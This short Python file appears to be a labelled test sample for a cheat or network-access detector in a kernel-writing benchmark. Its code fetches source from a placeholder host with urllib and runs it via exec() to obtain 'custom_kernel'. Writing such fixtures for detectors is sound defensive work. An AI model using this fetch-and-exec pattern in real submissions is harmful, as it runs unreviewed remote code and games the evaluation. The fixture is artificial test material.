# label: cheat
# expect: network-access
import urllib.request

_src = urllib.request.urlopen("https://example.invalid/kernel.py").read()
_ns = {}
exec(_src, _ns)
custom_kernel = _ns["custom_kernel"]
